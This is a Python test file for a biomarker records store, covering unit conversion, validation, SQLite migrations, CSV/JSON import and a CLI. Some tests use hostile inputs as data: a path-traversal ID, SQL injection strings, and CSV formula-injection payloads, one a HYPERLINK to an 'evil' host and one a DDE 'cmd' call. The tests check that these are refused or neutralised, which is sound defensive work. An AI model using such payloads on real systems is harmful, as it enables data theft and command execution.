"""Biomarker vocabulary, records, SQLite store (WAL, migrations, duplicates/conflicts, locked and
corrupt files) and CSV/JSON import with line-numbered errors, through the API and the CLI."""

import datetime as dt
import json
import sqlite3
from pathlib import Path

import pytest

from mmstream.biomarkers import BiomarkerStore, parse_record, read_records, to_canonical
from mmstream.biomarkers.store import MIGRATIONS, SCHEMA_VERSION
from mmstream.cli import main
from mmstream.errors import InputError, ReadError, StoreError
from mmstream.privacy import file_tag

ROW = {"patient_id": "P1", "site": "tibialis_anterior", "side": "left", "modality": "MRI", "biomarker": "fat_fraction",
       "value": 0.3, "unit": "1", "acquired_on": "2026-01-02"}  # fmt: skip
HEADER = "patient_id,site,side,modality,biomarker,value,unit,acquired_on,tracer\n"


def rec(**kw):
    return parse_record({**ROW, **kw})


@pytest.mark.parametrize(
    "name,value,unit,expected",
    [("fat_fraction", 35, "%", 0.35), ("t2_water_ms", 0.041, "s", 41.0), ("csa_mm2", 1.5, "cm2", 150.0),
     ("volume_mm3", 2, "mL", 2000.0), ("qsm_susceptibility_ppm", 25, "ppb", 0.025),
     ("dti_md_mm2_per_s", 1.2, "um2/ms", 1.2e-3), ("dti_fa", 0.5, "1", 0.5)],
)  # fmt: skip
def test_units_convert_exactly_to_the_canonical_unit(name, value, unit, expected):
    assert to_canonical(name, value, unit) == pytest.approx(expected, rel=1e-12)


@pytest.mark.parametrize(
    "raw,reason",
    [({"unit": "furlongs"}, "unknown_unit"), ({"unit": "ms"}, "unknown_unit"),
     ({"biomarker": "mrs_naa_cr", "value": 120, "unit": "%"}, "unknown_unit"),  # percent only for fractions
     ({"biomarker": "mood"}, "unknown_biomarker"),
     ({"value": 1.5}, "out_of_range"), ({"value": "nan"}, "out_of_range"), ({"value": "abc"}, "invalid_record"),
     ({"modality": "PET"}, "invalid_record"), ({"acquired_on": "yesterday"}, "invalid_record"),
     ({"acquired_on": "2062-01-05"}, "future_date"),
     ({"patient_id": "../../etc"}, "invalid_record"), ({"site": "Tibialis Anterior"}, "invalid_record"),
     ({"extra": 1}, "invalid_record"), ({"biomarker": "pet_suv_mean", "modality": "PET", "unit": "g/mL"}, "invalid_record"),
     # a value is a number or a decimal text, never a boolean (float(True) is 1) nor a Python-only literal
     ({"value": True}, "invalid_record"), ({"value": False}, "invalid_record"), ({"value": "1_0"}, "invalid_record"),
     ({"value": "0x1"}, "invalid_record"), ({"value": "0,5"}, "invalid_record"), ({"value": "\u0661"}, "invalid_record"),
     ({"value": [0.3]}, "invalid_record"), ({"value": 10**400}, "out_of_range"),
     # a date is ISO text, never a number (pydantic reads 86400 as 1970-01-02)
     ({"acquired_on": 86400}, "invalid_record"), ({"acquired_on": "86400"}, "invalid_record"),
     ({"acquired_on": True}, "invalid_record")],
)  # fmt: skip
def test_bad_records_are_refused_with_a_reason(raw, reason):
    with pytest.raises(InputError) as e:
        parse_record({**ROW, **raw})
    assert e.value.reason == reason


@pytest.mark.parametrize("value", ["30", " 30 ", "3e1", "+30.", 30, 30.0])
def test_a_value_as_number_or_decimal_text_reads_the_same(value):
    assert rec(value=value, unit="%").value == pytest.approx(0.3, rel=1e-15)


def test_store_is_wal_versioned_and_never_overwrites(tmp_path):
    with BiomarkerStore(tmp_path / "b.db") as s:
        assert s.schema_version == SCHEMA_VERSION
        assert s._db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        r1 = s.add([rec(), rec(site="soleus", value=0.1)])
        assert r1.added == 2 and not r1.duplicates and not r1.conflicts
        r2 = s.add([rec(), rec(value=0.6), rec(acquired_on="2026-02-01", value=0.31)])
        assert r2.added == 1 and len(r2.duplicates) == 1
        assert [(c.value, old) for c, old in r2.conflicts] == [(0.6, 0.3)]
        stored = s.query(patient_id="P1", site="tibialis_anterior")
        assert [(r.acquired_on, r.value) for r in stored] == [(dt.date(2026, 1, 2), 0.3), (dt.date(2026, 2, 1), 0.31)]
        assert s.patients() == ["P1"]
        assert s.query(patient_id="' OR 1=1 --") == [] and s.query(site="x'; DROP TABLE biomarkers; --") == []
        assert s._db.execute("SELECT n_added, n_duplicate, n_conflict FROM imports").fetchall() == [(2, 0, 0), (1, 1, 1)]


def test_an_old_schema_is_migrated_keeping_its_data(tmp_path):
    db = sqlite3.connect(tmp_path / "old.db")
    db.executescript(MIGRATIONS[0] + "PRAGMA user_version = 1;")
    db.execute("INSERT INTO biomarkers (patient_id, site, side, modality, biomarker, value, unit, acquired_on, tracer, "
               "imported_at) VALUES ('P1','soleus','','MRI','t2_water_ms',40.0,'ms','2025-05-05','','x')")  # fmt: skip
    db.commit()
    db.close()
    with BiomarkerStore(tmp_path / "old.db") as s:
        assert s.schema_version == SCHEMA_VERSION == 2
        assert [r.value for r in s.query("P1")] == [40.0]
        assert s.add([rec()]).added == 1  # the v2 imports table exists


def test_newer_schema_corrupt_and_missing_files_are_clear_errors(tmp_path):
    db = sqlite3.connect(tmp_path / "new.db")
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    db.close()
    with pytest.raises(StoreError) as e:
        BiomarkerStore(tmp_path / "new.db")
    assert e.value.reason == "newer_schema"
    (tmp_path / "junk.db").write_bytes(b"this is not sqlite at all" * 100)
    with pytest.raises(StoreError) as e:
        BiomarkerStore(tmp_path / "junk.db")
    assert e.value.reason == "corrupt"
    with pytest.raises(StoreError) as e:
        BiomarkerStore(tmp_path / "absent.db", create=False)
    assert e.value.reason == "unavailable"


def test_locked_store_fails_with_reason_locked_then_works_again(tmp_path):
    path = tmp_path / "b.db"
    with BiomarkerStore(path) as s:
        s.add([rec()])
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    other.execute("INSERT INTO imports (imported_at, n_added, n_duplicate, n_conflict, n_invalid) VALUES ('x',0,0,0,0)")
    with BiomarkerStore(path, timeout_s=0.05) as s:
        with pytest.raises(StoreError) as e:
            s.add([rec(site="soleus")])
        assert e.value.reason == "locked"
        other.execute("ROLLBACK")
        assert s.add([rec(site="soleus")]).added == 1  # the same connection works once the lock is gone
    other.close()


def test_csv_bad_rows_are_reported_by_line_and_good_rows_kept(tmp_path):
    f = tmp_path / "m.csv"
    f.write_text(
        HEADER
        + "P1,soleus,left,MRI,fat_fraction,20,%,2026-01-02,\n"  # line 2 ok
        + "P1,soleus,left,MRI,t2_water_ms,41,furlongs,2026-01-02,\n"  # 3 unknown unit
        + "P1,soleus,left,MRI,fat_fraction\n"  # 4 short row
        + '"P1","soleus\nsplit",left,MRI,dti_fa,0.4,1,2026-01-02,\n'  # 5-6 quoted newline, bad site
        + "P1,soleus,left,MRI,dti_fa,0.4,1,2026-01-02,,extra\n"  # 7 extra cell
        + "P1,soleus,right,MRI,t2_water_ms,0.039,s,2026-01-02,\n"  # 8 ok
    )  # fmt: skip
    res = read_records(f)
    assert [r.line for r in res.errors] == [3, 4, 5, 7]
    assert [r.reason for r in res.errors] == ["unknown_unit", "invalid_record", "invalid_record", "invalid_record"]
    assert res.lines == [2, 8]
    assert [r.value for r in res.records] == [pytest.approx(0.2), pytest.approx(39.0)]
    assert all(r.source_file == file_tag("m.csv") and r.source_sha256 == res.sha256 for r in res.records)  # never the name


def test_json_and_jsonl_bad_rows_are_reported_by_line(tmp_path):
    good = json.dumps(ROW)
    (tmp_path / "a.json").write_text("[\n" + good + ",\n42,\n{\"patient_id\": oops},\n" + good.replace("0.3", "0.4")
                                     .replace("left", "right") + "\n]\n")  # fmt: skip
    res = read_records(tmp_path / "a.json")
    assert [(e.line, e.reason) for e in res.errors] == [(3, "invalid_record"), (4, "malformed_json")]
    assert res.lines == [2, 5]
    (tmp_path / "b.json").write_text(json.dumps({"records": [ROW, {**ROW, "unit": "%%"}]}, indent=1))
    res = read_records(tmp_path / "b.json")
    assert len(res.records) == 1 and [e.reason for e in res.errors] == ["unknown_unit"]
    (tmp_path / "c.jsonl").write_text(good + "\n\n{not json\n" + json.dumps({**ROW, "side": None}) + "\n")
    res = read_records(tmp_path / "c.jsonl")
    assert [(e.line, e.reason) for e in res.errors] == [(3, "malformed_json")] and res.lines == [1, 4]
    # the object form: the "records" key itself, however escaped, and a bad row costs only itself
    old = json.dumps({**ROW, "patient_id": "P2"})
    (tmp_path / "d.json").write_text('{"kind": "records", "superseded": [%s],\n "rec\\u006frds": [\n%s,\n{"x": oops},\n%s]}'
                                     % (old, good, good.replace("0.3", "0.4")))  # fmt: skip
    res = read_records(tmp_path / "d.json")
    assert [r.patient_id for r in res.records] == [ROW["patient_id"]] * 2 and [e.reason for e in res.errors] == ["malformed_json"]
    (tmp_path / "e.json").write_text("[" + good + ",\n" + "[" * 100000 + "]" * 100000 + ",\n" + good + "]")
    res = read_records(tmp_path / "e.json")  # a row nested beyond the parser: that row only
    assert len(res.records) == 2 and [e.reason for e in res.errors] == ["malformed_json"]


def test_repeated_columns_and_keys_and_booleans_are_refused_not_guessed(tmp_path, capsys):
    """A repeated CSV column refuses the file (which cell is the value?); a JSON row repeating a key,
    or giving a boolean value, is refused with its line; other rows are kept."""
    (tmp_path / "dup.csv").write_text("patient_id,site,side,modality,biomarker,value,value,unit,acquired_on\n"
                                      "P1,soleus,left,MRI,fat_fraction,1,2,%,2000-01-01\n")  # fmt: skip
    with pytest.raises(ReadError) as e:
        read_records(tmp_path / "dup.csv")
    assert e.value.reason == "bad_header" and "['value'] more than once" in str(e.value)
    good = json.dumps(ROW)
    rows = [good.replace('"P1"', '"P5", "patient_id": "P6"'), good.replace("0.3", "true"),
            good.replace("0.3", '"0.31"'), good.replace("0.3", "1" * 5000)]  # fmt: skip
    (tmp_path / "rows.jsonl").write_text("\n".join(rows) + "\n")
    (tmp_path / "rows.json").write_text("[\n" + ",\n".join(rows) + "\n]")
    for f in ("rows.jsonl", "rows.json"):
        res = read_records(tmp_path / f)
        assert [r.value for r in res.records] == [pytest.approx(0.31)]  # decimal text reads as a CSV cell does
        assert [(x.line, x.reason) for x in res.errors] == [(1 + (f == "rows.json"), "invalid_record"),
                                                            (2 + (f == "rows.json"), "invalid_record"),
                                                            (4 + (f == "rows.json"), "out_of_range")]  # fmt: skip
        assert "['patient_id'] given more than once" in res.errors[0].message and "True is not a number" in res.errors[1].message
    db = tmp_path / "b.db"
    assert main(["biomarkers", "import", "--db", str(db), str(tmp_path / "dup.csv"), str(tmp_path / "rows.jsonl")]) == 1
    out, err = capsys.readouterr()
    assert f"dup.csv: error: bad_header: CSV header names column(s) ['value'] more than once\n" in err
    assert "rows.jsonl: 1 added, 0 duplicate, 0 conflict, 3 invalid" in out
    with BiomarkerStore(db) as s:
        assert [(r.patient_id, r.value) for r in s.query()] == [("P1", pytest.approx(0.31))]


@pytest.mark.parametrize(
    "name,content,reason",
    [("a.csv", b"just,some,columns\n1,2,3\n", "bad_header"), ("a.csv", b"\xff\xfe\x00garbage", "not_utf8"),
     ("a.json", b'{"rows": []}', "malformed_json"), ("a.json", b"[" + b'{"a":1},' * 3, "malformed_json"),
     ("a.xlsx", b"PK", "unsupported_format"), ("a.json", b"\"a string\"", "malformed_json")],
)  # fmt: skip
def test_unreadable_files_raise_read_error(tmp_path, name, content, reason):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(ReadError) as e:
        read_records(tmp_path / name)
    assert e.value.reason == reason


def test_cli_import_list_export_round_trip(tmp_path, capsys):
    db = tmp_path / "b.db"
    f = tmp_path / "in.csv"
    f.write_text(HEADER + "P1,soleus,left,MRI,fat_fraction,20,%,2026-01-02,\nP1,soleus,left,PET,pet_suv_mean,1.1,g/mL,"
                 "2026-01-02,FDG\nP2,soleus,,MRI,csa_mm2,12,parsecs,2026-01-02,\n")  # fmt: skip
    assert main(["biomarkers", "import", str(f), "--db", str(db)]) == 1  # one invalid row
    out, err = capsys.readouterr()
    assert "2 added, 0 duplicate, 0 conflict, 1 invalid" in out and "line 4: unknown_unit" in err
    f2 = tmp_path / "conflict.csv"
    f2.write_text(HEADER + "P1,soleus,left,MRI,fat_fraction,0.5,1,2026-01-02,\nP1,soleus,left,MRI,fat_fraction,0.2,1,"
                  "2026-01-02,\n")  # fmt: skip
    assert main(["biomarkers", "import", str(f2), "--db", str(db)]) == 1
    out, err = capsys.readouterr()
    assert "line 2: conflict" in err and "kept the stored value" in err and "line 3: duplicate" in err
    assert main(["biomarkers", "list", "--db", str(db), "--patient", "P1"]) == 0
    out, _ = capsys.readouterr()
    assert "pet_suv_mean" in out and "FDG" in out and "0.2" in out
    exported = tmp_path / "out.csv"
    assert main(["biomarkers", "export", "--db", str(db), "--format", "csv", "-o", str(exported)]) == 0
    with BiomarkerStore(tmp_path / "copy.db") as s:
        r = read_records(exported)
        assert not r.errors and s.add(r.records).added == 2
        assert s.query() == BiomarkerStore(db).query()
    assert main(["biomarkers", "list", "--db", str(tmp_path / "junk.db")]) == 2
    assert "unavailable" in capsys.readouterr().err
    assert main(["biomarkers", "list", "--db", str(db), "--patient", "NOPE"]) == 0  # no record: the header only
    assert capsys.readouterr().out.split() == ["patient_id", "site", "side", "modality", "biomarker", "value", "unit",
                                               "acquired_on", "tracer", "source_file"]  # fmt: skip
    for target in (tmp_path, tmp_path / "no" / "dir.csv"):  # a directory; a missing folder
        assert main(["biomarkers", "export", "--db", str(db), "-o", str(target)]) == 1
        assert capsys.readouterr().err.startswith(f"mmstream biomarkers export: error: unwritable: {target}: ")


def test_the_example_file_is_a_format_not_data(tmp_path, capsys):
    """examples/biomarkers.example.csv parses (its format is right) but none of its placeholder rows
    is imported into a store."""
    example = Path(__file__).resolve().parents[1] / "examples" / "biomarkers.example.csv"
    r = read_records(example)
    assert not r.records and r.errors and {e.reason for e in r.errors} == {"example_row"}
    assert main(["biomarkers", "import", "--db", str(tmp_path / "b.db"), str(example)]) == 1
    assert "0 added" in capsys.readouterr().out


def test_a_cell_over_the_csv_field_limit_costs_only_its_row(tmp_path, capsys):
    """A cell over csv.field_size_limit (131072 characters) used to end the reading: the 5 valid
    rows after it were lost and not counted. Now that row is refused with its line, the rest kept."""
    rows = [f"P1,soleus,left,MRI,fat_fraction,0.2,1,2026-01-{d:02d},,ok\n" for d in range(1, 4)]
    long = 'P1,soleus,left,MRI,fat_fraction,0.2,1,2026-02-01,,"' + "x" * 140000 + '"\n'
    more = [f"P1,soleus,left,MRI,fat_fraction,0.3,1,2026-03-{d:02d},,ok\n" for d in range(1, 6)]
    f = tmp_path / "long.csv"
    f.write_text(HEADER.replace("tracer", "tracer,method") + "".join(rows) + long + "".join(more))
    res = read_records(f)
    assert [(e.line, e.reason, e.message) for e in res.errors] == [(5, "invalid_record", "method: over 4096 characters")]
    assert res.lines == [2, 3, 4, 6, 7, 8, 9, 10]
    import csv

    assert csv.field_size_limit() == 131072  # the process-wide limit is left as it was
    assert main(["biomarkers", "import", str(f), "--db", str(tmp_path / "b.db")]) == 1
    assert "long.csv: 8 added, 0 duplicate, 0 conflict, 1 invalid" in capsys.readouterr().out


def test_csv_export_neutralises_formulas_and_reimports_exactly(tmp_path, capsys):
    """Text cells starting with = + - @, tab or CR are written with a leading ' (OWASP CSV
    injection: a spreadsheet would run =HYPERLINK(...)); numbers stay numbers (a negative QSM value
    is not text); importing the export gives back the stored text exactly (a stored text that
    starts with ' before such a character gets one more)."""
    db, f = tmp_path / "b.db", tmp_path / "in.csv"
    f.write_text("patient_id,site,side,modality,biomarker,value,unit,acquired_on,tracer,method\n"
                 'P1,biceps_brachii,left,MRI,fat_fraction,0.3,1,2026-01-01,,"=HYPERLINK(""http://evil/?""&A2;""x"")"\n'
                 "P1,biceps_brachii,right,PET,pet_suv_mean,1.2,g/mL,2026-01-01,+cmd|' /C calc'!A0,@SUM(1+1)\n"
                 'P1,soleus,right,MRI,fat_fraction,0.2,1,2026-01-01,,"\tTAB"\n')  # fmt: skip
    qsm = {**ROW, "site": "soleus", "biomarker": "qsm_susceptibility_ppm", "value": -0.02, "unit": "ppm",
           "method": "'=already quoted"}  # fmt: skip
    (tmp_path / "q.jsonl").write_text(json.dumps(qsm) + "\n")
    assert main(["biomarkers", "import", str(f), str(tmp_path / "q.jsonl"), "--db", str(db)]) == 0
    out = tmp_path / "out.csv"
    assert main(["biomarkers", "export", "--db", str(db), "-o", str(out)]) == 0
    import csv

    with open(out, newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-0.02")]
    assert {"'=HYPERLINK(\"http://evil/?\"&A2;\"x\")", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "''=already quoted", "'\tTAB",
            "-0.02"} <= set(cells)  # fmt: skip
    with BiomarkerStore(tmp_path / "copy.db") as s:
        r = read_records(out)
        assert not r.errors and s.add(r.records).added == 4
        assert s.query() == BiomarkerStore(db).query()
        assert {x.method for x in s.query()} >= {"=HYPERLINK(\"http://evil/?\"&A2;\"x\")", "'=already quoted", "\tTAB"}


def test_import_stores_file_tags_never_file_names(tmp_path):
    """The import's own file name and a source_file named in a row are stored as tags; a tag (an
    export's) is kept; stores written before, with names, read as before."""
    from mmstream.privacy import file_tag

    f = tmp_path / "Doe_Jane_19610203.csv"
    f.write_text("patient_id,site,side,modality,biomarker,value,unit,acquired_on,source_file\n"
                 "P1,soleus,left,MRI,fat_fraction,0.2,1,2026-01-01,\n"
                 "P1,soleus,right,MRI,fat_fraction,0.2,1,2026-01-01,Doe_John/t2.nii\n"
                 "P1,tibialis_anterior,right,MRI,fat_fraction,0.2,1,2026-01-01,<file 0123abcd>\n")  # fmt: skip
    assert [r.source_file for r in read_records(f).records] == [file_tag(f), file_tag("t2.nii"), "<file 0123abcd>"]
    assert main(["biomarkers", "import", str(f), "--db", str(tmp_path / "b.db")]) == 0
    with BiomarkerStore(tmp_path / "b.db") as s:
        assert s._db.execute("SELECT source_file FROM imports").fetchall() == [(file_tag(f),)]
        s._db.execute("UPDATE biomarkers SET source_file = 'Doe_Jane.csv' WHERE side = 'left'")  # an older store
        assert {r.source_file for r in s.query()} == {"Doe_Jane.csv", file_tag("t2.nii"), "<file 0123abcd>"}
